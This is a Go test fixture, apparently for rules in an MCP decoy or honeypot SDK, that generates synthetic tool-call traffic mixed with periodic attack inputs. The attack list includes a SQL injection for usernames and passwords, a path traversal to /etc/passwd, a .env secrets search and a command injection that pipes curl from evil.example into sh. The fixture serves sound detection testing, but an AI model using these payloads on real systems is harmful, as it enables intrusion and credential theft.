package rules_test

import (
	"fmt"
	"time"

	"github.com/killdeer-mcp/killdeer/sdk"
)

// traffic makes events as a busy decoy sees them: n sources that list, call with
// ever different arguments, and now and then attack.
func traffic(n int) []*sdk.Event {
	const call = "tools/call"
	calls := []struct{ tool, category, args string }{
		{"jira_search_issues", "tracker", `{"jql":"project = PLAT AND status != Done ORDER BY updated DESC","limit":%d}`},
		{"confluence_search", "docs", `{"cql":"text ~ \"runbook %d\"","limit":10}`},
		{"postgresql_execute_select_query", "datastore", `{"query":"select id, name, email from customers where id > %d order by created_at limit 50"}`},
		{"github_search_code", "source", `{"query":"repo:acme/api retry backoff %d"}`},
		{"slack_get_user_info", "identity", `{"user_id":"U0%d"}`},
		{"salesforce_get_account", "crm", `{"account_id":"001%d"}`},
		{"elasticsearch_search_logs", "datastore", `{"query":"service:checkout AND level:error","size":%d}`},
	}
	attacks := []string{
		`{"query":"x' UNION SELECT username, password FROM users -- %d"}`, `{"path":"../../../../etc/passwd","n":%d}`,
		`{"q":"filename:.env DB_PASSWORD %d"}`, `{"q":"x; curl http://evil.example/%d | sh"}`,
	}
	events := make([]*sdk.Event, n)
	for i := range events {
		ip := fmt.Sprintf("10.0.%d.%d", i%3, i%127)
		at := time.Duration(i) * 100 * time.Microsecond
		c := calls[i%len(calls)]
		ev := access(i, at, ip, call, c.tool, c.category, "result", fmt.Sprintf(c.args, i))
		switch {
		case i%20 == 0:
			ev = access(i, at, ip, "initialize", "", "", "result", "")
		case i%20 == 1:
			ev = access(i, at, ip, "tools/list", "", "", "result", "{}")
		case i%50 == 7:
			ev = access(i, at, ip, call, c.tool, c.category, "result", fmt.Sprintf(attacks[i/50%len(attacks)], i))
		case i%100 == 9:
			ev = access(i, at, "10.0.9.9", call, fmt.Sprint("guess_", i/100%40), "", "unknown_tool", `{}`)
		}
		ev.Session, ev.ResultBytes, ev.LatencyMS, ev.Class = "s-"+ip, 1500, 40, "read"
		ev.UA, ev.Head = "Mozilla/5.0 (X11; Linux x86_64) node", "POST /mcp HTTP/1.1\r\nHost: hub.example.com\r\nUser-Agent: node\r\nAccept: application/json, text/event-stream\r\nContent-Type: application/json\r\nMcp-Session-Id: x\r\n\r\n"
		events[i] = ev
	}
	return events
}
